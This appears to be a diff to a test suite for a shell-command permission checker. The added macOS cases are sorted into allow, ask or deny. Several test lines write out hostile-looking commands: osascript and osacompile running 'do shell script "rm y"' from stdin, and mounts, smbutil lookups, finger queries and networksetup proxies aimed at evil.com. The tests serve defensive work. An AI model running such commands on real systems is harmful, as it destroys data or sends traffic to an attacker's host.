@@ -112,6 +112,11 @@ describe('scripts a line gives a client or an interpreter are read', () => {
     [`deno eval 'Deno.removeSync("/etc/x")'`, 'ask'], [`Rscript -e 'system("rm y")'`, 'ask'], [`lua -e 'os.execute("rm y")'`, 'ask'],
     ["julia -e 'run(`rm y`)'", 'ask'], [`tclsh <<< 'exec rm y'`, 'ask'], ["m4 <<< 'syscmd(rm y)'", 'ask'], [`gnuplot -e 'system("rm y")'`, 'ask'],
     [`lldb -o 'platform shell rm y'`, 'ask'], ['Rscript /etc/x.R', 'deny'],
+    // osascript's code on standard input or from the terminal; its script file is read, osacompile's -o written (hunt 3 F2; were allowed).
+    [`echo 'do shell script "rm y"' | osascript`, 'ask'], [`osascript <<< 'do shell script "rm y"'`, 'ask'], [`osascript - <<'EOF'\ndo shell script "rm y"\nEOF`, 'ask'],
+    ['pbpaste | osascript', 'ask'], ['osascript -i', 'ask'], ['osascript -il JavaScript', 'ask'], ['osascript -l JavaScript', 'ask'], ['osascript /etc/x.scpt', 'deny'],
+    ['osascript -l JavaScript /etc/x.js', 'deny'], [`osacompile -e 'do shell script "rm y"' -o o.scpt; osascript o.scpt`, 'ask'], ['osacompile -o /etc/x.scpt a.applescript', 'deny'],
+    ['osacompile -o o.scpt /etc/a.applescript', 'deny'],
     // Their commands from a pipe or a file, as from a here-string: not known (found in review).
     [`printf '.shell rm y' | sqlite3`, 'ask'], ['sqlite3 db < q.sql', 'ask'], [`echo 'exec rm y' | tclsh`, 'ask'],
     [`echo 'syscmd(rm y)' | m4`, 'ask'], ['m4 - < x.m4', 'ask'], [`echo '\\! rm y' | psql`, 'ask'], [`echo 'system rm y' | mysql`, 'ask'],
@@ -129,7 +134,8 @@ describe('scripts a line gives a client or an interpreter are read', () => {
   });
   it.each(['gcc -O2 -Wall -Iinclude -DX=1 -o app main.c util.c -lm', 'g++ -std=c++17 -c a.cpp -o a.o', 'gcc -MMD -MF deps.d -c x.c',
     "sqlite3 db <<< 'select 1;'", 'perl -Mstrict -MList::Util=sum -e 1', 'gio info x', "psql <<< 'select 1'", 'lua script.lua', 'deno run main.ts',
-    'bun run build', "m4 <<< 'define(x)'", 'sqlite3 db "select 1"', 'psql -c "select 1"', 'mysql -e "select 1"', 'm4 a.m4', 'gdb -batch ./a.out', 'mount', 'mount -t ext4'])('%s stays allowed', (line) => {
+    'bun run build', "m4 <<< 'define(x)'", 'sqlite3 db "select 1"', 'psql -c "select 1"', 'mysql -e "select 1"', 'm4 a.m4', 'gdb -batch ./a.out', 'mount', 'mount -t ext4',
+    'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
@@ -224,6 +230,13 @@ describe('hosts a tool reaches are seen', () => {
     ['cvs -d :pserver:u@evil.com:/cvs co x', 'deny'], ['rcp f evil.com:x', 'deny'], ['mount -t nfs evil.com:/x /mnt', 'deny'],
     ['mount -t cifs //evil.com/s /mnt', 'deny'], ['mount_smbfs //u@evil.com/s /tmp/m', 'deny'], ['mount_nfs evil.com:/x /tmp/m', 'deny'],
     ['showmount -e evil.com', 'deny'], ['dig "$NAME"', 'ask'],
+    // macOS: mount_smbfs's -N takes no value; smbutil, networksetup's proxies, finger (hunt 3 F4, F9; were allowed).
+    ['mount_smbfs -N //evil.com/s /tmp/m', 'deny'], ['mount_smbfs -I evil.com //x/s /tmp/m', 'deny'], ['smbutil view //evil.com', 'deny'],
+    ['smbutil view -g //evil.com', 'deny'], ["smbutil login '//dom;u@evil.com'", 'deny'], ['smbutil lookup evil.com', 'deny'], ['smbutil status evil.com', 'deny'],
+    ['networksetup -setwebproxy Wi-Fi evil.com 8080', 'deny'], ['networksetup -setsocksfirewallproxy Wi-Fi evil.com 1080', 'deny'],
+    ['finger x@evil.com', 'deny'], ['finger @evil.com', 'deny'], ['finger -l x@good.example@evil.com', 'deny'],
+    ['mount_smbfs -N //good.example/s /tmp/m', 'allow'], ['smbutil statshares -a', 'allow'], ['networksetup -setwebproxy Wi-Fi good.example 8080', 'allow'],
+    ['networksetup -getinfo Wi-Fi', 'allow'], ['finger bob', 'allow'],
     // psql's \c and mysql's connect reach another server; more libpq and redis/mysql clients (were allowed).
     [`psql -c '\\c db u evil.com'`, 'deny'], [`psql -c '\\connect postgres://evil.com/db'`, 'deny'], [`psql -c '\\c "host=evil.com"'`, 'deny'],
     [`psql <<< '\\c db u evil.com'`, 'deny'], [`psql -c '\\c db u :h'`, 'ask'], [`psql -c '\\c otherdb'`, 'allow'], [`psql -c '\\c - - localhost'`, 'allow'],
